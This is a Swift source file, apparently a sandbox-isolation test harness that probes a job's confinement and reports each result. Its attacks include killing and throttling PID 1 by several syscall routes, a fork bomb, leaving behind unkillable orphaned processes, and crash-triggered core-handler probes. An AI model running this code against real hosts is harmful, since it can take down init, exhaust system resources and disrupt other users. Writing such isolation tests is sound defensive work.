import CEscape
import Glibc

/// Attacks on PID 1 of the job, and on whoever else might be reached by a number.
func attackProcesses() {
  signalPID1()
  for (name, resource) in [("NOFILE", 7), ("CPU", 0), ("AS", 9)] {
    let limit = UnsafeMutablePointer<UInt>.allocate(capacity: 2)
    limit[0] = 1
    limit[1] = 1
    report("prlimit PID 1 \(name)", word(call("prlimit64", 1, resource, Int(bitPattern: limit), 0)))
  }
  report("affinity of PID 1", word(call("sched_setaffinity", 1, 8, Int(bitPattern: allOnes()))))
  report("priority of PID 1", attempt { setpriority(0, 1, 19) })
  report("own priority above all", attempt { setpriority(0, 0, -20) })
  var parameters = sched_param()
  parameters.sched_priority = 1
  report("real-time scheduling", attempt { sched_setscheduler(0, SCHED_FIFO, &parameters) })
  report("signals to other numbers", signalOthers())
  // CLONE_PARENT: the child's end is told to PID 1, by whatever signal.
  let sibling = escape_clone(0x8000 | UInt(SIGTERM))
  report("a child for PID 1", sibling > 0 ? "done" : word(sibling))
  report("SIGIO to PID 1", ownerPID1())
  report("a core limit of its own", coreLimit())
}

private func signalPID1() {
  for (name, number) in [
    ("nothing", 0), ("SIGKILL", 9), ("SIGTERM", 15), ("SIGSTOP", 19), ("SIGUSR1", 10), ("SIGHUP", 1),
  ] {
    report("kill PID 1 with \(name)", attempt { kill(1, CInt(number)) })
  }
  report("tgkill PID 1", word(call("tgkill", 1, 1, 9)))
  let handle = call("pidfd_open", 1, 0)
  report("pidfd_send_signal to PID 1", word(call("pidfd_send_signal", handle, 9, 0, 0)))
  if handle >= 0 { close(CInt(handle)) }
  let info = UnsafeMutableRawPointer.allocate(byteCount: 128, alignment: 8)
  info.initializeMemory(as: UInt8.self, repeating: 0, count: 128)
  info.storeBytes(of: 17, as: CInt.self)
  info.storeBytes(of: -1, toByteOffset: 8, as: CInt.self)
  report("rt_sigqueueinfo to PID 1", word(call("rt_sigqueueinfo", 1, 17, Int(bitPattern: info))))
}

private func allOnes() -> UnsafeMutablePointer<UInt> {
  let mask = UnsafeMutablePointer<UInt>.allocate(capacity: 1)
  mask.pointee = .max
  return mask
}

/// Every process number but the own one and PID 1: there must be nobody.
private func signalOthers() -> String {
  let others = (pid_t(2)...32_768).filter { $0 != getpid() && (kill($0, 0) == 0 || errno == EPERM) }
  return others.isEmpty ? "nobody" : "\(others)"
}

private func ownerPID1() -> String {
  var ends: [CInt] = [0, 0]
  guard pipe(&ends) == 0 else { return word(Int(-errno)) }
  defer { for end in ends { close(end) } }
  guard fcntl(ends[0], F_SETOWN, 1) == 0, fcntl(ends[0], 10 /* F_SETSIG */, SIGTERM) == 0,
    fcntl(ends[0], F_SETFL, O_NONBLOCK | 0x2000 /* O_ASYNC */) == 0
  else { return word(Int(-errno)) }
  // The kernel asks for the right when it sends, and says nothing: PID 1 passes a SIGTERM that came on to this process.
  write(ends[1], "x", 1)
  usleep(100_000)
  return "done"
}

/// What is set here decides whether the host's core handler runs at a crash (core(5)): 0 does not keep it from it, 1 does.
private func coreLimit() -> String {
  var limit = rlimit(rlim_cur: 0, rlim_max: 0)
  let result = attempt { setrlimit(__rlimit_resource_t(4), &limit) }
  getrlimit(__rlimit_resource_t(4), &limit)
  return "\(result), then \(limit.rlim_cur)"
}

/// Ends by SIGSEGV, after an attempt to get its core dumped.
func crash() {
  var limit = rlimit(rlim_cur: .max, rlim_max: .max)
  report("raise the core limit", attempt { setrlimit(__rlimit_resource_t(4), &limit) })
  let first = inChild { _ in
    escape_crash()
    return 0
  }
  report("crash", first)
  limit = rlimit(rlim_cur: 0, rlim_max: 0)
  setrlimit(__rlimit_resource_t(4), &limit)
  let second = inChild { _ in
    escape_crash()
    return 0
  }
  report("crash with core limit 0", second)
}

/// Leaves processes behind in every way there is: orphans in sessions of their own that ignore every signal and have closed the
/// pipes, siblings made with CLONE_PARENT, a stopped one, one that forks for ever. Then this process ends.
func leaveOthersBehind() {
  for _ in 0..<4 {
    _ = escape_fork(
      { _ in
        setsid()
        for number in 1..<65 { signal(CInt(number), SIG_IGN) }
        for descriptor in 0..<3 { close(CInt(descriptor)) }
        if escape_fork(sleepForEver, nil) >= 0 { return 0 }
        return 1
      }, nil)
  }
  _ = escape_fork(
    { _ in
      setsid()
      raise(SIGSTOP)
      return 0
    }, nil)
  _ = escape_fork(
    { _ in
      setsid()
      // It ends, and its child goes on: no number is its own for long.
      while true {
        if escape_fork({ _ in 0 }, nil) < 0 { usleep(1000) }
        while waitpid(-1, nil, WNOHANG) > 0 {}
        let child = escape_fork({ _ in 1 }, nil)
        if child < 0 { usleep(1000) }
      }
    }, nil)
  report("left behind", "done")
}

private func sleepForEver(_ context: UnsafeMutableRawPointer?) -> CInt {
  while true { pause() }
}

/// Forks until the limit, then a while longer; counts the children.
func forkBomb() {
  var count = 0
  var refused = ""
  var tries = 0
  while tries < 2000, count < 100_000 {
    let pid = escape_fork(sleepForEver, nil)
    if pid > 0 {
      count += 1
    } else {
      refused = word(pid)
      tries += 1
    }
  }
  report("fork bomb", "\(count) \(refused)")
}

/// What the setuid program in an allowed mount is when a job runs it.
func whoAmI() {
  report("effective user", "\(geteuid())")
  report("capabilities", capabilities())
}
